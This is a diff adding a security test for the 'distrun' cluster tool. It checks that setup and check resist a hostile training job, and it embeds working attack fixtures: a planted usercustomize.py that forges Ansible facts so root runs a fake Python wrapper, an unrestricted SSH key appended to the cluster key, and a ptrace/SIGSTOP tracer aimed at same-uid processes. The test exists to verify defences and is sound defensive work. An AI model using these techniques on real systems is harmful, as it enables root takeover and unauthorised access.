@@ -1,0 +1,296 @@
+"""Jobs that reach for root through what setup and check do as the training user: a process of
+that user's uid answers for root, and a file that user can write feeds root.
+
+One job plants, on every node, what any process of the training user's uid reads: a
+``usercustomize.py`` in ``~/.local`` (Python imports it in every interpreter of that user that
+does not say ``-s`` or ``-I``) that adds forged ``ansible_facts`` to any Ansible module's answer it
+sees, naming as the node's Python a program of the job's, and on the cluster key's host a second
+line in ``~/.ssh/id_ed25519.pub``: its own key, without any limit. A second job, detached, stays
+alive through the next ``distrun setup`` and ``distrun check``: on every node it traces
+(``PTRACE_ATTACH``) and stops (``SIGSTOP``, continued two seconds later) every process of its uid
+that lives outside every run's unit, and writes down what it found. Setup and check must stay
+right (exit 0, every check passing), nothing forged may reach the controller's fact cache or a
+root process, the key line must log in nowhere, and the detached job must find no process of its
+uid that setup or check started. Each attack is tallied in tests/cluster/hostile.py.
+"""
+
+from __future__ import annotations
+
+import json
+import os
+import subprocess
+import textwrap
+import time
+import uuid
+from pathlib import Path
+
+from .conftest import distrun, new_train_run
+from .hostile import TALLY
+
+HOME = "/home/distrun"
+PUB = f"{HOME}/.ssh/id_ed25519.pub"
+
+# Planted by rank 0 of every node. The forger answers for node2 only: one node is enough to show
+# the way in, and the others' setup stays as it was.
+PLANT = textwrap.dedent(r'''
+    import os, socket, subprocess, sys
+    tag = sys.argv[1]
+    home = os.path.expanduser("~")
+    host = socket.gethostname().split(".")[0]
+    if os.environ.get("LOCAL_RANK", "0") == "0":
+        evil = f"{home}/.local/bin/python3-{tag}"
+        os.makedirs(os.path.dirname(evil), exist_ok=True)
+        with open(evil, "w") as f:  # whoever runs this as the node's Python leaves its uid behind
+            f.write(f"#!/bin/sh\nid -u > {home}/rooted-{tag}-$(hostname)\nexec /usr/bin/python3 \"$@\"\n")
+        os.chmod(evil, 0o755)
+        site = f"{home}/.local/lib/python{sys.version_info[0]}.{sys.version_info[1]}/site-packages"
+        os.makedirs(site, exist_ok=True)
+        with open(f"{site}/usercustomize.py", "w") as f:
+            f.write(FORGER.replace("TAG", tag).replace("EVIL", evil))
+        if host == "node1":  # the cluster key's host: a second line, the job's own key, no limit
+            key = f"{home}/.jobkey-{tag}"
+            subprocess.run(["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-C", f"job-{tag}", "-f", key], check=True)
+            os.makedirs(f"{home}/.ssh", exist_ok=True)
+            with open(f"{home}/.ssh/id_ed25519.pub", "a") as f:
+                f.write("\n" + open(key + ".pub").read())
+        sys.stdout.write(f"PLANTED {host}\n")
+''')
+
+# usercustomize.py: any module's JSON answer written by this interpreter gets forged facts.
+FORGER = textwrap.dedent(r'''
+    import io, json, socket, sys
+    if socket.gethostname().split(".")[0] == "node2":
+        class _Forge(io.TextIOBase):
+            def __init__(self, inner):
+                self.inner = inner
+            def write(self, text):
+                body = text.strip()
+                if body.startswith("{") and '"invocation"' in body:
+                    try:
+                        data = json.loads(body)
+                        data.setdefault("ansible_facts", {}).update(
+                            {"distrun_forged": "TAG", "python": {"executable": "EVIL", "version": {"major": 3}}})
+                        text = "\n" + json.dumps(data) + "\n"
+                    except ValueError:
+                        pass
+                return self.inner.write(text)
+            def flush(self):
+                return self.inner.flush()
+            def __getattr__(self, name):
+                return getattr(self.inner, name)
+        sys.stdout = _Forge(sys.stdout)
+''')
+
+# The detached job: on every node, every process of its uid outside every run's unit is traced
+# and stopped for two seconds; what it found goes to ~/tracer-<tag>-<host>.json.
+TRACER = textwrap.dedent(r'''
+    import ctypes, json, os, re, signal, socket, sys, time
+    tag, seconds = sys.argv[1], float(sys.argv[2])
+    home = os.path.expanduser("~")
+    host = socket.gethostname().split(".")[0]
+    libc = ctypes.CDLL(None, use_errno=True)
+    libc.ptrace.restype = ctypes.c_long
+    libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
+    UNIT = re.compile(r"/distrun:[^/]+\.service$")  # a run's unit: the account's runs, not the target
+
+    def read(path, n=4096):
+        try:
+            with open(path, "rb") as f:
+                return f.read(n)
+        except OSError:
+            return b""
+
+    def cgroup(pid):
+        lines = read(f"/proc/{pid}/cgroup").decode(errors="replace").strip().splitlines()
+        return lines[-1].split(":", 2)[-1] if lines else ""
+
+    def uids(pid):
+        for line in read(f"/proc/{pid}/status").decode(errors="replace").splitlines():
+            if line.startswith("Uid:"):
+                return [int(x) for x in line.split()[1:]]
+        return []
+
+    me, mine, found, due = os.getuid(), cgroup("self"), {}, []
+    out = f"{home}/tracer-{tag}-{host}.json"
+    deadline, last_write = time.time() + seconds, 0.0
+    # Armed by the test once 'distrun train --detach' returned: what lives before is left alone
+    # (the run's own start, the user's manager), what starts after is the target.
+    while not os.path.exists(f"{home}/tracer-{tag}-arm") and time.time() < deadline:
+        time.sleep(0.2)
+    before = {n for n in os.listdir("/proc") if n.isdigit()}
+    while time.time() < deadline and not os.path.exists(f"{home}/tracer-{tag}-stop"):
+        for name in os.listdir("/proc"):
+            if not name.isdigit() or name in found or name in before or int(name) == os.getpid():
+                continue
+            cg = cgroup(name)
+            if me not in uids(name) or cg == mine or UNIT.search(cg):
+                continue
+            rec = {"seen": time.time(), "comm": read(f"/proc/{name}/comm").decode(errors="replace").strip(),
+                   "cmd": read(f"/proc/{name}/cmdline", 300).replace(b"\0", b" ").decode(errors="replace").strip(),
+                   "cgroup": cg}
+            pid = int(name)
+            if libc.ptrace(16, pid, None, None) == 0:  # PTRACE_ATTACH
+                try:
+                    os.waitpid(pid, 0x40000000)  # __WALL
+                except OSError:
+                    pass
+                libc.ptrace(17, pid, None, None)  # PTRACE_DETACH
+                rec["traced"] = True
+            else:
+                rec["traced"] = os.strerror(ctypes.get_errno())
+            try:
+                os.kill(pid, signal.SIGSTOP)
+                rec["stopped"] = True
+                due.append((time.time() + 2, pid))
+            except OSError as e:
+                rec["stopped"] = e.strerror
+            found[name] = rec
+        now = time.time()
+        for when, pid in [d for d in due if d[0] <= now]:
+            due.remove((when, pid))
+            try:
+                os.kill(pid, signal.SIGCONT)
+            except OSError:
+                pass
+        if now - last_write > 1:
+            with open(out + ".tmp", "w") as f:
+                json.dump({"armed": True, "found": found}, f)
+            os.replace(out + ".tmp", out)
+            last_write = now
+        time.sleep(0.02)
+    for _, pid in due:
+        try:
+            os.kill(pid, signal.SIGCONT)
+        except OSError:
+            pass
+    with open(out + ".tmp", "w") as f:
+        json.dump({"armed": True, "found": found, "ended": True}, f)
+    os.replace(out + ".tmp", out)
+''')
+
+PLAIN = "import socket, sys\nsys.stdout.write(f'PLAIN {socket.gethostname()}\\n')\n"
+
+
+def _bounded(*args: str, limit: int):
+    """distrun with a limit: its result, or None when it was still running after limit seconds."""
+    try:
+        return distrun(*args, timeout=limit)
+    except subprocess.TimeoutExpired:
+        return None
+
+
+def _reports(cluster, tag: str) -> dict[int, dict]:
+    out = {}
+    for k in (1, 2, 3):
+        got = cluster.exec(k, f"cat {HOME}/tracer-{tag}-node{k}.json 2>/dev/null", check=False).stdout
+        try:
+            out[k] = json.loads(got)
+        except ValueError:
+            out[k] = {}
+    return out
+
+
+def _found_between(reports: dict[int, dict], start: float, end: float) -> dict[int, list[dict]]:
+    return {k: [p for p in r.get("found", {}).values() if start <= p["seen"] <= end] for k, r in reports.items()}
+
+
+def _cached_forgery(home: Path, tag: str) -> list[str]:
+    """Fact cache files on the controller that hold the forged fact."""
+    return [str(p) for p in (home / "facts").rglob("*") if p.is_file() and tag in p.read_text(errors="replace")]
+
+
+def test_setup_and_check_stay_right_while_a_job_traces_its_uid_and_plants_files_for_root(provisioned, distrun_home,
+                                                                                            tmp_path):
+    tag = uuid.uuid4().hex[:8]
+    plant, tracer, plain = tmp_path / "plant.py", tmp_path / "tracer.py", tmp_path / "plain.py"
+    plant.write_text(PLANT.replace("FORGER", repr(FORGER)))
+    tracer.write_text(TRACER)
+    plain.write_text(PLAIN)
+    tracer_run = None
+    try:
+        planted = distrun("train", "--inventory", "test", "--launcher", "mpirun", "--script", str(plant), "--", tag,
+                          timeout=600)
+        assert planted.rc == 0 and planted.stdout.count("PLANTED ") == 3, planted.stdout[-3000:] + planted.stderr[-2000:]
+
+        before = set((distrun_home / "runs").glob("*-train-*"))
+        started = distrun("train", "--inventory", "test", "--launcher", "mpirun", "--detach", "--script", str(tracer),
+                          "--", tag, "1800", timeout=600)
+        tracer_run = new_train_run(distrun_home, before)
+        assert started.rc == 0 and tracer_run is not None, started.stdout[-3000:] + started.stderr[-2000:]
+        for k in (1, 2, 3):
+            provisioned.exec(k, f"touch {HOME}/tracer-{tag}-arm && chown distrun: {HOME}/tracer-{tag}-arm")
+        for _ in range(60):  # armed on every node
+            if all(r.get("armed") for r in _reports(provisioned, tag).values()):
+                break
+            time.sleep(1)
+        assert all(r.get("armed") for r in _reports(provisioned, tag).values()), _reports(provisioned, tag)
+
+        t0 = time.time()
+        setup = _bounded("setup", "--inventory", "test", limit=900)
+        t1 = time.time()
+        check = _bounded("check", "--inventory", "test", limit=600)
+        t2 = time.time()
+        for k in (1, 2, 3):
+            provisioned.exec(k, f"touch {HOME}/tracer-{tag}-stop && chown distrun: {HOME}/tracer-{tag}-stop")
+        time.sleep(3)
+        reports = _reports(provisioned, tag)
+        in_setup, in_check = _found_between(reports, t0, t1), _found_between(reports, t1, t2)
+        shown = {f"node{k}": [(p["comm"], p["cmd"][:80], p["traced"], p["stopped"]) for p in v]
+                 for k, v in in_setup.items() if v}
+        shown_check = {f"node{k}": [(p["comm"], p["cmd"][:80], p["traced"], p["stopped"]) for p in v]
+                       for k, v in in_check.items() if v}
+        print(f"\nsetup {'still running' if setup is None else f'rc={setup.rc}'} after {t1 - t0:.0f}s, "
+              f"check {'still running' if check is None else f'rc={check.rc}'} after {t2 - t1:.0f}s")
+        print(f"processes of the training uid outside every run during setup: {json.dumps(shown)}")
+        print(f"... during check: {json.dumps(shown_check)}")
+
+        cached = _cached_forgery(distrun_home, tag)
+        train = distrun("train", "--inventory", "test", "--launcher", "torchrun", "--script", str(plain), timeout=600)
+        rooted = {k: provisioned.exec(k, f"for f in {HOME}/rooted-{tag}-*; do [ -e \"$f\" ] && "
+                                         f"echo \"$(stat -c %U \"$f\") uid=$(cat \"$f\")\"; done; true",
+                                      check=False).stdout.strip() for k in (1, 2, 3)}
+        shell = provisioned.exec(1, f"runuser -u distrun -- ssh -F /etc/ssh/ssh_config -o BatchMode=yes "
+                                    f"-o IdentitiesOnly=yes -i {HOME}/.jobkey-{tag} node2 'echo SHELL-{tag}; id -un'",
+                                 check=False)
+
+        traced = {k: [p for p in v if p["traced"] is True] for k, v in in_setup.items()}
+        traced_check = {k: [p for p in v if p["traced"] is True] for k, v in in_check.items()}
+        stopped = {k: [p for p in in_setup[k] + in_check[k] if p["stopped"] is True] for k in in_setup}
+        failures = []
+        if TALLY.record("a setup module, fed by a file the job wrote, forges facts into the controller's cache",
+                        bool(cached)):
+            failures.append(f"forged facts cached: {cached}")
+        if TALLY.record("root runs the program a forged fact names as the node's Python",
+                        any("uid=0" in v for v in rooted.values())):
+            failures.append(f"rooted: {rooted}")
+        if TALLY.record("a key line the job appended to the cluster key's .pub logs in with a plain shell",
+                        f"SHELL-{tag}" in shell.stdout):
+            failures.append(f"shell: {shell.stdout[-300:]}")
+        if TALLY.record("a detached job traces a process of its uid that setup started outside every run",
+                        any(traced.values())):
+            failures.append(f"traced in setup: {shown}")
+        if TALLY.record("a detached job traces a process of its uid that check started outside every run",
+                        any(traced_check.values())):
+            failures.append(f"traced in check: {shown_check}")
+        if TALLY.record("a detached job stops a process of its uid that setup or check started",
+                        any(stopped.values())):
+            failures.append("stopped: " + json.dumps({k: [p["comm"] for p in v] for k, v in stopped.items() if v}))
+        assert not failures, "\n".join(failures)
+        # Not attacks: what the user sees of setup, check and a later run stays right.
+        assert setup is not None and setup.rc == 0, setup and setup.stdout[-4000:] + setup.stderr[-2000:]
+        assert check is not None and check.rc == 0, check and check.stdout[-4000:] + check.stderr[-2000:]
+        assert train.rc == 0 and train.stdout.count("PLAIN ") == 3, train.stdout[-3000:] + train.stderr[-2000:]
+    finally:
+        for k in (1, 2, 3):
+            provisioned.exec(k, f"touch {HOME}/tracer-{tag}-stop; chown distrun: {HOME}/tracer-{tag}-stop", check=False)
+        if tracer_run is not None:
+            distrun("stop", tracer_run.name, timeout=300)
+        for k in (1, 2, 3):
+            provisioned.exec(k, f"rm -rf {HOME}/.local/lib/python3*/site-packages/usercustomize.py "
+                                f"{HOME}/.local/bin/python3-{tag} {HOME}/rooted-{tag}-* {HOME}/tracer-{tag}-* "
+                                f"{HOME}/.jobkey-{tag}*; sed -i '/job-{tag}/d;/^$/d' {PUB} 2>/dev/null; "
+                                f"sed -i '/job-{tag}/d' /etc/ssh/distrun_keys/distrun 2>/dev/null; true", check=False)
+        for p in _cached_forgery(distrun_home, tag):  # the next check gathers them again
+            os.unlink(p)
+        if _cached_forgery(distrun_home, tag) == []:
+            distrun("check", "--inventory", "test", timeout=900)
